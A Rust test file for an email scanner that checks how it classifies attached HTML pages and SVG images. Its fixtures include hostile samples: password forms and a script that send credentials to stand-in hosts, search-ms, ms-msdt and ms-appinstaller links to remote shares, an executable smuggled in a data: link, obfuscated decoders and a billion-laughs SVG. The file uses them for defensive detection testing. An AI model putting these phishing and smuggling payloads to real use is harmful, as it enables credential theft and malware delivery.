//! Web pages and SVG images (issue 32, "what a page makes the reader do"):
//! the judgements that need more than the golden corpus shows — the
//! organisation's own domains, where a page can sit (an archive entry, an
//! attached message, not the message's own body), the files a page builds
//! walked as children, HTML under an `.xls` name.

#[path = "../examples/samples/mod.rs"]
mod samples;

use base64::Engine as _;
use ecluse_scanner::{Action, Category, Engine, FindingKind, Limits, Report, scan, scan_file};
use samples::*;

fn categories(r: &Report) -> Vec<Category> {
    r.categories.clone()
}

fn login_posting_to(action: &str) -> String {
    format!(
        "<!DOCTYPE html><html><body><h2>Intranet</h2><form method=\"post\" action=\"{action}\">\
         <input name=\"login\"><input type=\"password\" name=\"mdp\"><button>Entrer</button></form></body></html>"
    )
}

fn page_mail(from: &str, page: &str) -> Vec<u8> {
    let eml = with_attachment("Connexion", "text/html", "Connexion.html", page.as_bytes());
    // The samples' sender, replaced: the page's judgement must not depend on it.
    eml.replacen(
        "From: =?utf-8?q?Mairie_de_Saint-=C3=89tienne?= <mairie@ville-exemple.fr>",
        &format!("From: <{from}>"),
        1,
    )
    .into_bytes()
}

#[test]
fn a_password_form_posting_to_our_domains_or_a_partners_is_ordinary() {
    let ours = Engine::builtin().with_own_domains(&["ville-exemple.fr", "Agglo-Exemple.fr."]);
    let limits = Limits::default();
    for action in [
        "https://intranet.ville-exemple.fr/login",
        "https://ville-exemple.fr/login",
        "https://sso.agglo-exemple.fr/auth",
    ] {
        let r = scan(
            &ours,
            &limits,
            &page_mail("dsi@ville-exemple.fr", &login_posting_to(action)),
        );
        assert_eq!(r.action, Action::Deliver, "{action}: {:?}", categories(&r));
    }
    // A relative action under a <base href> of ours is ours too.
    let based = login_posting_to("/login").replace(
        "<body>",
        "<head><base href=\"https://intranet.ville-exemple.fr/\"></head><body>",
    );
    assert_eq!(
        scan(&ours, &limits, &page_mail("dsi@ville-exemple.fr", &based)).action,
        Action::Deliver
    );
    // Without the list, every host is outside.
    let r = scan(
        &Engine::builtin(),
        &limits,
        &page_mail(
            "dsi@ville-exemple.fr",
            &login_posting_to("https://intranet.ville-exemple.fr/login"),
        ),
    );
    assert_eq!(categories(&r), [Category::PhishingPage]);
}

#[test]
fn the_senders_own_domain_is_never_trusted() {
    let ours = Engine::builtin().with_own_domains(&["ville-exemple.fr"]);
    let limits = Limits::default();
    for (from, action) in [
        (
            "support@portail-exemple.example",
            "https://portail-exemple.example/login",
        ),
        (
            "mairie@ville-exemple.fr",
            "https://ville-exemple.fr.portail-exemple.example/login",
        ),
        (
            "mairie@ville-exemple.fr",
            "https://evilville-exemple.fr/login",
        ),
    ] {
        let r = scan(&ours, &limits, &page_mail(from, &login_posting_to(action)));
        assert_eq!(
            categories(&r),
            [Category::PhishingPage],
            "{from} → {action}"
        );
        let f = r
            .all_findings()
            .find(|(_, f)| f.kind == FindingKind::CredentialForm)
            .unwrap()
            .1;
        assert!(
            f.fr()
                .unwrap()
                .starts_with("la page demande un mot de passe et l'envoie à "),
            "{:?}",
            f.fr()
        );
    }
}

#[test]
fn a_password_field_a_script_takes_is_held() {
    let limits = Limits::default();
    let engine = Engine::builtin().with_own_domains(&["ville-exemple.fr"]);
    let page = "<html><body><input type=password id=p><button onclick=\"envoyer()\">OK</button><script>function envoyer(){ fetch('https://collecte.example.invalid/p', {method: 'POST', body: document.getElementById('p').value}); }</script></body></html>";
    let r = scan(&engine, &limits, &page_mail("a@b.example", page));
    assert_eq!(categories(&r), [Category::PhishingPage]);
    assert!(
        r.all_findings()
            .any(|(_, f)| f.en().contains("collecte.example.invalid"))
    );
    // No script, no address: what is typed goes nowhere.
    let inert = "<html><body><form><input type=password></form></body></html>";
    assert_eq!(
        scan(&engine, &limits, &page_mail("a@b.example", inert)).action,
        Action::Deliver
    );
}

#[test]
fn a_page_is_judged_wherever_it_sits_but_in_the_message_body() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    let handler = "<html><body><a href=\"search-ms:query=x&amp;crumb=location:\\\\203.0.113.9@SSL\\DavWWWRoot\\p\">Ouvrir</a></body></html>";
    // An archive entry.
    let z = zip(&[("documents/Ouvrir.htm", handler.as_bytes())]);
    let r = scan(
        &engine,
        &limits,
        with_attachment("Dossier", "application/zip", "Dossier.zip", &z).as_bytes(),
    );
    assert_eq!(categories(&r), [Category::ExternalContent]);
    let (path, _) = r
        .all_findings()
        .find(|(_, f)| f.kind == FindingKind::ExternalContent)
        .unwrap();
    assert_eq!(path, "2/documents/Ouvrir.htm");
    // The attachment of an attached message.
    let inner = with_attachment(
        "Relevé",
        "text/html",
        "Releve.html",
        login_posting_to("https://releve.example.invalid/").as_bytes(),
    );
    let outer = message(
        "Tr: Relevé",
        &multipart(
            "mixed",
            "outer",
            &[
                text_part("Voir le message joint."),
                format!("Content-Type: message/rfc822\r\n\r\n{inner}"),
            ],
        ),
    );
    assert_eq!(
        categories(&scan(&engine, &limits, outer.as_bytes())),
        [Category::PhishingPage]
    );
    // The message's own HTML body: mail clients show it without running
    // scripts or following a handler by themselves; it is not a page here.
    let body = message(
        "Lettre",
        &format!(
            "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{handler}\r\n"
        ),
    );
    assert_eq!(
        scan(&engine, &limits, body.as_bytes()).action,
        Action::Deliver
    );
}

#[test]
fn what_a_page_builds_is_walked_as_a_file() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    // A program in a data: link with a download name.
    let b64 = base64::engine::general_purpose::STANDARD.encode(pe());
    let page = format!(
        "<html><body><a download=\"Facture.exe\" href=\"data:application/octet-stream;base64,{b64}\">Télécharger</a></body></html>"
    );
    let part = scan_file(&engine, &limits, Some("Facture.html"), page.as_bytes());
    let cats: Vec<Category> = part
        .walk()
        .iter()
        .flat_map(|p| p.findings.iter().map(|f| f.category))
        .collect();
    assert!(cats.contains(&Category::HtmlSmuggling), "{cats:?}");
    let child = &part.children[0];
    assert_eq!(child.filename.as_deref(), Some("Facture.exe"));
    assert_eq!(
        child.detected_type,
        "application/vnd.microsoft.portable-executable"
    );
    assert!(
        child
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::ExecutableContent)
    );
    // The same bytes from the page's own text, as an ordinary CSV, are no smuggling.
    let csv = "<html><body><a download=\"export.csv\" href=\"data:text/csv;charset=utf-8,%EF%BB%BFNom%3BClasse%0AMartin%3BCE2\">CSV</a></body></html>";
    let part = scan_file(&engine, &limits, Some("Export.html"), csv.as_bytes());
    assert_eq!(part.action, Action::Deliver, "{:?}", part.findings);
}

#[test]
fn html_under_an_xls_name_is_a_page_not_a_mismatch() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    let table = "<html xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><body><table><tr><td>1</td></tr></table></body></html>";
    let part = scan_file(&engine, &limits, Some("Export.xls"), table.as_bytes());
    assert_eq!(part.action, Action::Deliver, "{:?}", part.findings);
    let with_form = table.replace(
        "</table>",
        "</table><form action=\"https://x.example.invalid/\"><input type=password></form>",
    );
    let part = scan_file(&engine, &limits, Some("Export.xls"), with_form.as_bytes());
    let kinds: Vec<FindingKind> = part.findings.iter().map(|f| f.kind).collect();
    assert_eq!(kinds, [FindingKind::CredentialForm]);
    // Text under a page's name is read as a page too.
    let part = scan_file(
        &engine,
        &limits,
        Some("lien.htm"),
        b"Cliquez ici : <a href=\"ms-msdt:/id PCWDiagnostic\">diagnostic</a>",
    );
    assert!(
        part.findings
            .iter()
            .any(|f| f.kind == FindingKind::ExternalContent),
        "{:?}",
        part.findings
    );
}

#[test]
fn hostile_pages_never_panic() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    for page in [
        &b"<svg><foreignObject><![CDATA["[..],
        b"<script>document.write(atob(",
        b"<script>eval(eval(eval(eval(atob('ZXZhbChhdG9iKCdaWFpoYkNoaGRHOWlLQ2RhV0ZwaFlrTm9hR1JIT1dsTFEyUmhWMFp3YUZscmJIaGFNamxwVEZVVlQwKScpKQ==')))))</script>",
        b"<iframe srcdoc=\"<iframe srcdoc='<iframe srcdoc=&quot;<form><input type=password>&quot;>'>\"></iframe><script>x</script>",
        b"<meta http-equiv=refresh content=\"0;url=\">",
        b"<a href=\"\\\\\">x</a><a href=\"//\">y</a><form action=\"mailto:\"><input type=password></form>",
        b"\xff\xfe<\x00h\x00t\x00m\x00l\x00>\x00",
        b"<html><body>\xc3\x28\xa0\xa1<script>'\xe2\x82'</script>",
        // Issue 32's readings, cut short or malformed.
        b"<script>var {atob: ",
        b"<script>const {",
        b"<script>var [a, b",
        b"<script>var d = atob; d.apply(null); d.call(); d.bind()(); document.write(d())</script>",
        b"<script>var f = String.fromCharCode; f.apply(null, f)</script>",
        b"\xfe\xff\x00<\x00s\x00v\x00g",
        b"\xff\xfe<\x00\x00\xd8<\x00",
        b"<\x00?\x00",
        b"<!DOCTYPE svg [<!ENTITY a \"&a;&a;\">]><svg>&a;</svg>",
        b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x '<!DOCTYPE svg [<!ENTITY y \"&x;\">]>'>]><svg>&x;&y;</svg>",
        b"<!DOCTYPE svg [<!ENTITY x \"&#xFFFFFFFF;&#55296;&#;\">]><svg>&x;</svg>",
        b"<base href=\"search-ms:\"><a href><form action><iframe src>",
    ] {
        let _ = scan_file(&engine, &limits, Some("page.html"), page);
        let _ = scan_file(&engine, &limits, Some("image.svg"), page);
    }
}

/// The login page the red-team pages hide (issue 32): a form posting away.
const LOGIN: &str = "<form method=\"post\" action=\"https://portail-o365.example.invalid/auth\"><input name=\"login\"><input type=\"password\" name=\"passwd\"><button>Se connecter</button></form>";

fn categories_of(name: &str, page: &[u8]) -> (Action, Vec<Category>) {
    let part = scan_file(&Engine::builtin(), &Limits::default(), Some(name), page);
    let mut cats: Vec<Category> = part
        .walk()
        .iter()
        .flat_map(|p| p.findings.iter().map(|f| f.category))
        .collect();
    cats.sort_by_key(|c| c.to_string());
    cats.dedup();
    (part.action, cats)
}

#[test]
fn a_decoder_held_in_a_variable_is_still_a_decoder() {
    let b64 = base64::engine::general_purpose::STANDARD.encode(LOGIN);
    let pct: String = LOGIN.bytes().map(|b| format!("%{b:02X}")).collect();
    let codes: Vec<String> = LOGIN.bytes().map(|b| b.to_string()).collect();
    let codes = codes.join(",");
    for script in [
        format!("var d = atob; document.write(d('{b64}'));"),
        format!("var d = window['at' + 'ob']; document.write(d('{b64}'));"),
        format!("const {{atob: x}} = window; document.body.innerHTML = x('{b64}');"),
        format!("const {{atob}} = self; document.write(atob('{b64}'));"),
        format!("let w = document.write.bind(document), d = window.atob; w(d('{b64}'));"),
        format!("var u = unescape; document.write(u('{pct}'));"),
        format!("var u = window['decodeURI' + 'Component']; document.write(u(\"{pct}\"));"),
        format!("var f = String.fromCharCode; document.write(f({codes}));"),
        format!("var f = String['fromChar' + 'Code']; document.write(f.apply(null, [{codes}]));"),
        format!("const {{fromCharCode: f}} = String; document.write(f(...[{codes}]));"),
    ] {
        let page = format!("<html><body><script>{script}</script></body></html>");
        let (action, cats) = categories_of("Bordereau.html", page.as_bytes());
        assert_eq!(cats, [Category::PhishingPage], "{script}");
        assert_eq!(action, Action::Quarantine, "{script}");
    }
    // A function the reading does not know, fed a large encoded literal,
    // whose result the page writes: held as a page that writes itself.
    let big = base64::engine::general_purpose::STANDARD.encode(LOGIN.repeat(8));
    let page = format!(
        "<script>function d(s) {{ return s.split('').map(function (c) {{ return c; }}).join(''); }}\ndocument.write(decoder.run('{big}'));</script>"
    );
    let part = scan_file(
        &Engine::builtin(),
        &Limits::default(),
        Some("Bordereau.html"),
        page.as_bytes(),
    );
    assert!(
        part.findings
            .iter()
            .any(|f| f.kind == FindingKind::PageWritesItself),
        "{:?}",
        part.findings
    );
    // Ordinary twins: an alias of a decoder writing a notice; an unknown
    // function of a small text; an aliased decoder on a logo.
    let notice =
        base64::engine::general_purpose::STANDARD.encode("<p>Rapport généré automatiquement.</p>");
    for script in [
        format!("var d = atob; document.getElementById('n').innerHTML = d('{notice}');"),
        "var t = traduire('Bonjour'); document.getElementById('n').textContent = t; el.innerHTML = format(t);".to_string(),
        "const {atob: x} = window; var logo = x(LOGO); img.src = 'data:image/png;base64,' + LOGO;".to_string(),
    ] {
        let page = format!("<html><body><p id=n></p><script>{script}</script></body></html>");
        let (action, cats) = categories_of("Rapport.html", page.as_bytes());
        assert_eq!((action, cats), (Action::Deliver, vec![]), "{script}");
    }
}

fn utf16(text: &str, little: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if little { &[0xff, 0xfe] } else { &[0xfe, 0xff] });
    }
    for u in text.encode_utf16() {
        out.extend_from_slice(&if little {
            u.to_le_bytes()
        } else {
            u.to_be_bytes()
        });
    }
    out
}

#[test]
fn a_utf16_page_is_read_as_the_browser_reads_it() {
    let script = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location = 'https://messagerie.example.invalid/';</script></svg>";
    let foreign = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"400\" height=\"300\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Message vocal</p></body></html></foreignObject></svg>";
    let chart = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><title>Budget</title><rect width=\"10\" height=\"20\"/><text>Écoles</text></svg>";
    let html = format!("<!DOCTYPE html><html><body><h2>Intranet</h2>{LOGIN}</body></html>");
    let letter = "<!DOCTYPE html><html><body><p>Bonjour, voici l'ordre du jour.</p></body></html>";
    for (little, bom) in [(true, true), (false, true), (true, false), (false, false)] {
        let how = format!("little-endian {little}, byte order mark {bom}");
        for (name, doc, want) in [
            ("Message_vocal.svg", script, vec![Category::ActiveContent]),
            ("Message_vocal.svg", foreign, vec![Category::ActiveContent]),
            (
                "Connexion.html",
                html.as_str(),
                vec![Category::PhishingPage],
            ),
            ("Budget.svg", chart, vec![]),
            ("Ordre_du_jour.html", letter, vec![]),
        ] {
            let bytes = utf16(doc, little, bom);
            let (action, cats) = categories_of(name, &bytes);
            assert_eq!(cats, want, "{name}, {how}");
            let mail = with_attachment("Message", "application/octet-stream", name, &bytes);
            let r = scan(&Engine::builtin(), &Limits::default(), mail.as_bytes());
            let mut got = categories(&r);
            got.retain(|c| *c != Category::TypeMismatch);
            assert_eq!(got, want, "{name} mailed, {how}: {:?}", r.categories);
            if want.is_empty() {
                assert_eq!(action, Action::Deliver, "{name}, {how}");
            }
        }
    }
}

#[test]
fn an_svgs_internal_entities_are_judged_as_what_they_become() {
    let svg = |subset: &str, body: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n{subset}\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"200\" height=\"100\">{body}</svg>"
        )
    };
    for (subset, body, want) in [
        (
            "<!ENTITY x \"javascript:location='https://messagerie.example.invalid/'\">",
            "<a href=\"&x;\"><text y=\"20\">Écouter</text></a>",
            Category::ActiveContent,
        ),
        (
            "<!ENTITY x \"java&#115;cript:void(0)\">",
            "<a xlink:href=\"&x;\"><text y=\"20\">Écouter</text></a>",
            Category::ActiveContent,
        ),
        (
            "<!ENTITY s \"&#60;script&#62;location='https://messagerie.example.invalid/'&#60;/script&#62;\">",
            "&s;",
            Category::ActiveContent,
        ),
        (
            "<!ENTITY h \"search-ms:query=Facture&amp;crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\p\">",
            "<a href=\"&h;\"><text y=\"20\">Ouvrir</text></a>",
            Category::ExternalContent,
        ),
    ] {
        let doc = svg(subset, body);
        let (action, cats) = categories_of("Message_vocal.svg", doc.as_bytes());
        assert!(cats.contains(&want), "{subset}: {cats:?}");
        assert_ne!(action, Action::Deliver, "{subset}");
    }
    // A billion laughs is held as a bomb, bounded.
    let mut laughs = String::from("<!ENTITY l0 \"ha\">");
    for i in 1..10 {
        laughs.push_str(&format!(
            "<!ENTITY l{i} \"{}\">",
            format!("&l{};", i - 1).repeat(10)
        ));
    }
    let started = std::time::Instant::now();
    let (action, cats) = categories_of("rires.svg", svg(&laughs, "<text>&l9;</text>").as_bytes());
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    assert_eq!(cats, [Category::BudgetExceeded]);
    assert_eq!(action, Action::Quarantine);
    // Ordinary: Illustrator's namespaces as entities, a title as one.
    let ai = svg(
        "<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">\n<!ENTITY ns_xlink \"http://www.w3.org/1999/xlink\">\n<!ENTITY titre \"Budget 2027\">",
        "<title>&titre;</title><g xmlns:x=\"&ns_xlink;\"><rect width=\"10\" height=\"20\"/><a href=\"https://www.ville-exemple.fr/budget\"><text>&titre;</text></a></g>",
    );
    assert_eq!(
        categories_of("Budget.svg", ai.as_bytes()),
        (Action::Deliver, vec![])
    );
}

#[test]
fn relative_links_go_where_the_base_goes() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    for (base, link) in [
        (
            "search-ms:query=Facture&amp;crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\p",
            "#",
        ),
        ("search-ms:query=Facture", "facture.pdf"),
        ("file://203.0.113.50/partage/", "facture.pdf.lnk"),
        ("\\\\203.0.113.50@SSL\\DavWWWRoot\\", "facture.pdf"),
        ("ms-appinstaller:?source=https://203.0.113.50/a.msix", ""),
    ] {
        let page = format!(
            "<!DOCTYPE html><html><head><base href=\"{base}\"></head><body><a href=\"{link}\">Ouvrir la facture</a></body></html>"
        );
        let part = scan_file(&engine, &limits, Some("Facture.html"), page.as_bytes());
        let reach = part
            .findings
            .iter()
            .find(|f| f.kind == FindingKind::ExternalContent)
            .unwrap_or_else(|| panic!("{base} + {link}: {:?}", part.findings));
        // The finding names where the link goes: the base.
        assert!(reach.en().contains(&base[..8]), "{}", reach.en());
        assert_eq!(part.action, Action::Quarantine, "{base} + {link}");
    }
    // Ordinary: a web base, and relative links without one.
    for head in [
        "<base href=\"https://www.ville-exemple.fr/\">",
        "<base target=\"_blank\">",
        "",
    ] {
        let page = format!(
            "<!DOCTYPE html><html><head>{head}</head><body><a href=\"#haut\">Haut</a><a href=\"agenda.html\">Agenda</a><img src=\"logo.png\"></body></html>"
        );
        let part = scan_file(&engine, &limits, Some("Lettre.html"), page.as_bytes());
        assert_eq!(part.action, Action::Deliver, "{head}: {:?}", part.findings);
    }
}
